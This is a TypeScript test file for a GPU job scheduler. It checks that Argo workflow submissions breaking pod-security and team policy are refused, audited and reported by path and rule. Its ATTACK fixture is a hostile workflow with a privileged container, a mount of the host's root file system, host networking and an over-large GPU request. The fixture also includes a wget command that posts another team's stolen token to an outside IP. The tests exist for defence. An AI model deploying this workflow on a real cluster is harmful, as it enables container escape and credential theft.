import { randomUUID } from 'node:crypto';
import { and, eq } from 'drizzle-orm';
import { NextRequest } from 'next/server';
import { describe, expect, it } from 'vitest';
import { POST as postJob } from '@/app/api/jobs/route';
import { POST as postPreview } from '@/app/api/workflows/preview/route';
import { auditLog, benchmarkDatasets, jobs } from '@/lib/db/schema';
import { logger } from '@/lib/log';
import type { GpuNode } from '@/lib/domain/scheduler';
import { as, testDb, withRollback } from '@/tests/db';
import { makeTeam, makeUser } from '@/tests/factories';
import type { Ctx } from '../context';
import { AppError, type FieldError } from '../errors';
import { upsertQuota } from '../quotas/upsert-quota';
import { admitJobs } from '../scheduler/admit-jobs';
import { launchAdmittedJobs } from '../scheduler/launch-jobs';
import type { NodeDetail } from '../scheduler/read-cluster-gpus';
import { createToken } from '../tokens/create-token';
import { grantPolicyException } from '../teams/grant-policy-exception';
import { revokePolicyException } from '../teams/revoke-policy-exception';
import { setTeamPolicy } from '../teams/set-team-policy';
import { previewWorkflow } from '../workflows/preview-workflow';
import { getJob } from './get-job';
import type { JobView } from './job-view';
import { submitJob, type SubmitDeps } from './submit-job';

function world() {
  const kind = `a100-80gb-p${randomUUID().slice(0, 6)}`;
  const nodes: GpuNode[] = [{ name: `node-${kind}`, pool: 'training', gpus: { [kind]: { capacity: 8, free: 8 } } }];
  const deps: SubmitDeps = { gpuKinds: async () => [kind], gpuNodes: async () => nodes };
  const details = new Map<string, NodeDetail>([
    [
      nodes[0].name,
      {
        name: nodes[0].name,
        pool: 'training',
        gpuProduct: 'NVIDIA-A100-SXM4-80GB',
        taints: [{ key: 'gpu', value: 'true', effect: 'NoSchedule' }],
        resources: { [kind]: 'nvidia.com/gpu' },
      },
    ],
  ]);
  return { kind, nodes, deps, details };
}

// The payload: its own ServiceAccount, the node's network and file system, a privileged
// container, 8 GPUs through podSpecPatch (1 admitted) and another team's sweep results token.
const ATTACK = (stolen: string) => `
apiVersion: argoproj.io/v1alpha1
kind: Workflow
metadata: { generateName: harmless- }
spec:
  entrypoint: main
  serviceAccountName: argo-workflow-controller
  hostNetwork: true
  volumes:
    - name: host
      hostPath: { path: / }
  templates:
    - name: main
      podSpecPatch: '{"containers":[{"name":"main","resources":{"limits":{"nvidia.com/gpu":"8"}}}]}'
      container:
        image: alpine:3.20
        command: [sh, -c, 'wget -q --post-data="$TOKEN" http://203.0.113.9/']
        securityContext: { privileged: true }
        volumeMounts: [{ name: host, mountPath: /host }]
        env:
          - name: TOKEN
            valueFrom: { secretKeyRef: { name: ${stolen}, key: token } }
`;

const EXPECTED: Array<Pick<FieldError, 'field' | 'rule'>> = [
  { field: 'spec.hostNetwork', rule: 'pss.hostNamespaces' },
  { field: 'spec.volumes[0].hostPath', rule: 'pss.hostPathVolumes' },
  { field: 'spec.templates[0].container.securityContext.privileged', rule: 'pss.privileged' },
  { field: 'spec.serviceAccountName', rule: 'gantry.serviceAccount' },
  { field: 'spec.templates[0].podSpecPatch', rule: 'gantry.podSpecPatch' },
  { field: 'spec.templates[0].container.env[0].valueFrom.secretKeyRef.name', rule: 'gantry.secret' },
];

const HOST_NETWORK_ONLY = `
apiVersion: argoproj.io/v1alpha1
kind: Workflow
metadata: { generateName: nccl- }
spec:
  entrypoint: main
  hostNetwork: true
  templates:
    - name: main
      container: { image: nvcr.io/nvidia/pytorch:24.05-py3, command: [torchrun, train.py], resources: { limits: { nvidia.com/gpu: 1 } } }
`;

function workflowBody(kind: string, yaml: string, team?: string) {
  return {
    name: 'policy',
    kind: 'workflow',
    team,
    gpu: { kind, count: 1 },
    expectedRuntimeSeconds: 600,
    maxRuntimeSeconds: 3600,
    spec: { yaml },
  };
}

async function refusal(promise: Promise<unknown>): Promise<AppError> {
  const error = await promise.then(
    () => null,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(AppError);
  return error as AppError;
}

async function setup(ctx: Ctx, kind: string) {
  const team = await makeTeam(ctx);
  const other = await makeTeam(ctx);
  const owner = await makeUser(ctx, { role: 'researcher', teamId: team.id });
  const outsider = await makeUser(ctx, { role: 'researcher', teamId: other.id });
  const admin = await makeUser(ctx, { role: 'admin' });
  for (const t of [team, other])
    await upsertQuota({ ctx, input: { team: t.slug, gpuKind: kind, guaranteed: 4, borrowingLimit: 0 } });
  return { team, other, owner, outsider, admin };
}

const countJobs = async (ctx: Ctx, userId: string) =>
  (await ctx.db.select({ id: jobs.id }).from(jobs).where(eq(jobs.userId, userId))).length;

describe('workload policy at submission', () => {
  it('refuses the attacker’s raw workflow naming every violation, stores nothing, and the dry run and preview say the same', () =>
    withRollback(async (ctx) => {
      const { kind, deps } = world();
      const { team, owner } = await setup(ctx, kind);
      const yaml = ATTACK(`gantry-sweep-${randomUUID()}`);

      const submitted = await refusal(submitJob({ ctx: as(ctx, owner), input: workflowBody(kind, yaml) }, deps));
      expect(submitted.code).toBe('INVALID');
      expect(submitted.message).toMatch(/workload policy/);
      expect(submitted.fields.map(({ field, rule }) => ({ field, rule }))).toEqual(EXPECTED);
      for (const f of submitted.fields) expect(f.message).toContain(`(${f.rule})`);
      expect(await countJobs(ctx, owner.id)).toBe(0);

      const dryRun = await refusal(
        submitJob({ ctx: as(ctx, owner), input: workflowBody(kind, yaml), dryRun: true }, deps),
      );
      expect(dryRun.fields).toEqual(submitted.fields);

      const preview = await previewWorkflow({
        ctx: as(ctx, owner),
        input: { yaml, team: team.slug, gpu: { kind, count: 1 } },
      });
      expect(preview.problems).toEqual([]);
      expect(preview.violations.map((v) => ({ field: v.path, rule: v.rule }))).toEqual(EXPECTED);
      expect(await countJobs(ctx, owner.id)).toBe(0);
    }));

  it('names GPUs beyond the grant in the user’s own resources', () =>
    withRollback(async (ctx) => {
      const { kind, deps } = world();
      const { owner } = await setup(ctx, kind);
      const yaml = HOST_NETWORK_ONLY.replace('  hostNetwork: true\n', '').replace(
        'nvidia.com/gpu: 1',
        'nvidia.com/gpu: 8',
      );
      const error = await refusal(submitJob({ ctx: as(ctx, owner), input: workflowBody(kind, yaml) }, deps));
      expect(error.fields).toEqual([
        {
          field: 'spec.templates[0].container.resources.limits["nvidia.com/gpu"]',
          rule: 'gantry.gpu',
          message: 'asks for 8 GPUs; the job was admitted 1 (gantry.gpu)',
        },
      ]);
    }));

  it('lets an admin’s exception pass one rule for that team only, audited, until revoked', () =>
    withRollback(async (ctx) => {
      const { kind, deps } = world();
      const { team, other, owner, outsider, admin } = await setup(ctx, kind);
      const refused = await refusal(
        submitJob({ ctx: as(ctx, owner), input: workflowBody(kind, HOST_NETWORK_ONLY) }, deps),
      );
      expect(refused.fields.map((f) => f.rule)).toEqual(['pss.hostNamespaces']);

      const granted = await grantPolicyException({
        ctx: as(ctx, admin),
        input: {
          slug: team.slug,
          rule: 'pss.hostNamespaces',
          reason: 'NCCL over the node network for multi-node training',
        },
      });
      expect(granted.exceptions).toMatchObject([{ rule: 'pss.hostNamespaces', createdBy: admin.email }]);
      const [audit] = await ctx.db
        .select()
        .from(auditLog)
        .where(and(eq(auditLog.action, 'team.policy_exception.grant'), eq(auditLog.target, `team:${team.slug}`)));
      expect(audit).toMatchObject({
        actorId: admin.id,
        details: { rule: 'pss.hostNamespaces', reason: expect.stringContaining('NCCL') },
      });

      const job = (await submitJob(
        { ctx: as(ctx, owner), input: workflowBody(kind, HOST_NETWORK_ONLY) },
        deps,
      )) as JobView;
      expect(job.state).toBe('queued');
      // The exception is the team's: the attacker's other violations, and other teams, are still refused.
      const stillRefused = await refusal(
        submitJob({ ctx: as(ctx, owner), input: workflowBody(kind, ATTACK('x')) }, deps),
      );
      expect(stillRefused.fields.map((f) => f.rule)).not.toContain('pss.hostNamespaces');
      expect(stillRefused.fields).toHaveLength(EXPECTED.length - 1);
      const elsewhere = await refusal(
        submitJob({ ctx: as(ctx, outsider), input: workflowBody(kind, HOST_NETWORK_ONLY, other.slug) }, deps),
      );
      expect(elsewhere.fields.map((f) => f.rule)).toEqual(['pss.hostNamespaces']);

      await revokePolicyException({ ctx: as(ctx, admin), input: { slug: team.slug, rule: 'pss.hostNamespaces' } });
      await refusal(submitJob({ ctx: as(ctx, owner), input: workflowBody(kind, HOST_NETWORK_ONLY) }, deps));
      const actions = await ctx.db
        .select({ action: auditLog.action })
        .from(auditLog)
        .where(eq(auditLog.target, `team:${team.slug}`));
      expect(actions.map((a) => a.action).sort()).toEqual([
        'team.policy_exception.grant',
        'team.policy_exception.revoke',
      ]);
    }));

  it('lets a team reference the Secrets an admin allowed it, and checks a restricted team at restricted', () =>
    withRollback(async (ctx) => {
      const { kind, deps } = world();
      const { team, owner, admin } = await setup(ctx, kind);
      const withSecret = HOST_NETWORK_ONLY.replace('  hostNetwork: true\n', '').replace(
        'command: [torchrun, train.py],',
        'command: [torchrun, train.py], envFrom: [{ secretRef: { name: wandb } }],',
      );
      const refused = await refusal(submitJob({ ctx: as(ctx, owner), input: workflowBody(kind, withSecret) }, deps));
      expect(refused.fields.map((f) => [f.field, f.rule])).toEqual([
        ['spec.templates[0].container.envFrom[0].secretRef.name', 'gantry.secret'],
      ]);
      await setTeamPolicy({ ctx: as(ctx, admin), input: { slug: team.slug, allowedSecrets: ['wandb'] } });
      expect(
        ((await submitJob({ ctx: as(ctx, owner), input: workflowBody(kind, withSecret) }, deps)) as JobView).state,
      ).toBe('queued');

      await setTeamPolicy({ ctx: as(ctx, admin), input: { slug: team.slug, podSecurity: 'restricted' } });
      const restricted = await refusal(submitJob({ ctx: as(ctx, owner), input: workflowBody(kind, withSecret) }, deps));
      expect(restricted.fields.map((f) => f.rule)).toEqual([
        'pss.privilegeEscalation',
        'pss.runAsNonRoot',
        'pss.seccompRestricted',
        'pss.capabilitiesRestricted',
      ]);
      // Gantry's own kinds carry what restricted asks for.
      const training = {
        ...workflowBody(kind, ''),
        kind: 'training',
        spec: { image: 'ghcr.io/acme/train:1.4', command: ['python', 'train.py'] },
      };
      expect(((await submitJob({ ctx: as(ctx, owner), input: training }, deps)) as JobView).state).toBe('queued');
      const updates = await ctx.db
        .select({ details: auditLog.details })
        .from(auditLog)
        .where(and(eq(auditLog.action, 'team.policy.update'), eq(auditLog.target, `team:${team.slug}`)));
      expect(updates).toHaveLength(2);
    }));

  it('refuses a sweep job naming a dataset its submitter may not run', () =>
    withRollback(async (ctx) => {
      const { kind, deps } = world();
      const { owner, outsider } = await setup(ctx, kind);
      const [dataset] = await ctx.db
        .insert(benchmarkDatasets)
        .values({ name: 'theirs', source: 'sweep', createdBy: outsider.id })
        .returning();
      const input = {
        ...workflowBody(kind, ''),
        kind: 'benchmark',
        spec: {
          image: 'runner',
          command: ['run'],
          configurations: [{ id: 'c0', parameters: { batch: 1 } }],
          resultsUrl: 'http://gantry/api/benchmarks/results',
          datasetId: dataset.id,
        },
      };
      const error = await refusal(submitJob({ ctx: as(ctx, owner), input }, deps));
      expect(error.fields).toEqual([{ field: 'spec.datasetId', message: 'Not a sweep dataset you may run' }]);
      const mine = (await submitJob({ ctx: as(ctx, outsider), input }, deps)) as JobView;
      expect(mine.state).toBe('queued');
    }));
});

describe('workload policy at launch', () => {
  it('fails a job whose built workflow breaks the policy with POLICY_REFUSED naming path and rule, creating nothing', () =>
    withRollback(async (ctx) => {
      const { kind, nodes, deps, details } = world();
      const { owner } = await setup(ctx, kind);
      const job = (await submitJob(
        { ctx: as(ctx, owner), input: workflowBody(kind, HOST_NETWORK_ONLY.replace('  hostNetwork: true\n', '')) },
        deps,
      )) as JobView;
      // A row that got past submission another way (written before the policy existed).
      await ctx.db
        .update(jobs)
        .set({ spec: { yaml: HOST_NETWORK_ONLY } })
        .where(eq(jobs.id, Number(job.id)));
      await admitJobs({ ctx, input: { nodes } });
      const created: string[] = [];
      const launched = await launchAdmittedJobs(
        { ctx },
        {
          nodeDetails: async () => details,
          submit: async (m) => (created.push(m.metadata.name!), { workflowName: m.metadata.name! }),
        },
      );
      expect(launched.failed).toEqual([job.id]);
      expect(created).toEqual([]);
      const view = await getJob({ ctx: as(ctx, owner), input: { id: job.id } });
      expect(view).toMatchObject({ state: 'failed', reason: 'POLICY_REFUSED' });
      expect(view.message).toContain('spec.hostNetwork');
      expect(view.message).toContain('[pss.hostNamespaces]');
    }));
});

describe('workload policy over HTTP', () => {
  const noParams = { params: Promise.resolve({}) as Promise<Record<string, never>> };
  const post = (path: string, token: string, body: unknown) =>
    new NextRequest(`http://127.0.0.1:3000${path}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });

  it('answers POST /api/jobs and ?dryRun=1 with 400 problem JSON naming path and rule, and the preview with the same list', async () => {
    const ctx: Ctx = {
      db: testDb().db,
      actor: { id: '', email: '', name: '', role: 'admin', via: 'system' },
      log: logger(),
    };
    const team = await makeTeam(ctx);
    const user = await makeUser(ctx, { role: 'researcher', teamId: team.id });
    const { token } = await createToken({ ctx: { ...ctx, actor: user }, input: { name: 'policy' } });
    const body = workflowBody('a100-80gb-shared', ATTACK(`gantry-sweep-${randomUUID()}`));
    for (const path of ['/api/jobs', '/api/jobs?dryRun=1']) {
      const res = await postJob(post(path, token, body), noParams);
      expect(res.status).toBe(400);
      expect(res.headers.get('content-type')).toContain('application/problem+json');
      const problem = await res.json();
      expect(problem).toMatchObject({
        status: 400,
        code: 'INVALID',
        detail: expect.stringContaining('workload policy'),
      });
      expect(problem.errors.map(({ field, rule }: FieldError) => ({ field, rule }))).toEqual(EXPECTED);
    }
    const preview = await postPreview(
      post('/api/workflows/preview', token, { yaml: body.spec.yaml, gpu: body.gpu }),
      noParams,
    );
    expect(preview.status).toBe(200);
    const answer = await preview.json();
    expect(answer.violations.map((v: { path: string; rule: string }) => ({ field: v.path, rule: v.rule }))).toEqual(
      EXPECTED,
    );
    expect(await countJobs(ctx, user.id)).toBe(0);
  });
});
